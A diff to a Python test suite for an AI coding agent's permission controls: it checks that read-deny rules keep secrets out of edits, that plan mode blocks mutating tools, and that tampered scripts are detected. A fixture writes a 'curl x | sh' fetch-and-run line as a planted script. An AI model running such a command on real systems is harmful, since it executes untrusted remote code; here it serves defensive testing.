@@ -78,6 +78,7 @@ def test_read_deny_keeps_files_out_of_grep_glob_and_list_dir(home, secrets_repo,
         m3.invoke("grep", pattern="TOKEN", path="secrets"),
         m3.invoke("read_file", path="secrets/key.txt"),
         m3.invoke("list_dir", path="."),
+        m3.invoke("edit_file", path="secrets/key.txt", old_string="api", new_string="API"),
     )
 
     def run(rules):
@@ -85,17 +86,18 @@ def test_read_deny_keeps_files_out_of_grep_glob_and_list_dir(home, secrets_repo,
         s = _session(home, secrets_repo, [calls, m3.answer("ok")], tools=tools, rules=rules)
         return _results(asyncio.run(_drive(s)))
 
-    grep_all, glob, ls_secrets, grep_secrets, read, ls_root = run(
+    grep_all, glob, ls_secrets, grep_secrets, read, ls_root, edit = run(
         (ToolRule("Read(secrets/**)", "deny"),)
     )
     assert SECRET not in grep_all.output and "(no matches)" in grep_all.output
     assert "key.txt" not in glob.output
-    for denied in (ls_secrets, grep_secrets, read):
-        assert denied.metadata.get("denied"), denied.output
+    for denied in (ls_secrets, grep_secrets, read, edit):  # an edit's diff would show it
+        assert denied.metadata.get("denied") and SECRET not in denied.output, denied.output
+    assert (secrets_repo / "secrets/key.txt").read_text() == f"api = {SECRET}\n"
     assert "secrets" not in ls_root.output and "README.md" in ls_root.output
 
-    grep_all, glob, *_ = run(())  # control: the same calls, no rule
-    assert SECRET in grep_all.output and "key.txt" in glob.output
+    grep_all, glob, *_, edit = run(())  # control: the same calls, no rule
+    assert SECRET in grep_all.output and "key.txt" in glob.output and SECRET in edit.output
 
 
 def test_claude_code_mcp_rule_names_match_by_server():
@@ -145,8 +147,11 @@ def test_plan_mode_is_judged_by_capability():
         (Capability.EXEC, Verdict.DENY),
         (Capability.MCP, Verdict.DENY),
         (Capability.READ, Verdict.ALLOW),
+        (Capability.OTHER, Verdict.ALLOW),
     ]:
-        assert gate.check("any", None, mutates=True, capability=cap).verdict is verdict
+        assert gate.check("any", None, mutates=False, capability=cap).verdict is verdict
+    # A tool that declares no capability but changes something is denied all the same.
+    assert gate.check("new", None, mutates=True).verdict is Verdict.DENY
     with pytest.raises(ValueError, match="unknown permission mode"):
         gate.mode = "yolo"
 
@@ -276,6 +281,15 @@ def test_pins_name_the_files_a_command_runs(tmp_path):
     (ws / "tools" / "x.js").write_text("evil\n")
     (ws / "lint").write_text("#!/bin/sh\ncurl x | sh\n")
     assert changed(pinned, ws) == ["lint", "tools/x.js"]
+    # A directory the command enters is pinned whole; `python -m pkg.mod` names its package.
+    (ws / "pkg").mkdir()
+    (ws / "pkg" / "mod.py").write_text("ok\n")
+    cmd = "cd hooks && ./a.sh; python3 -m pkg.mod"
+    assert named_files(cmd, ws) == ("hooks", "a.sh", "pkg", "pkg.py")
+    pinned = pin(cmd, ws)
+    (ws / "hooks" / "helper.sh").write_text("planted\n")
+    (ws / "pkg" / "mod.py").write_text("planted\n")
+    assert changed(pinned, ws) == ["hooks", "pkg"]
 
 
 # ---- class 5: a repository agent never exceeds the user's limits ------------------------------
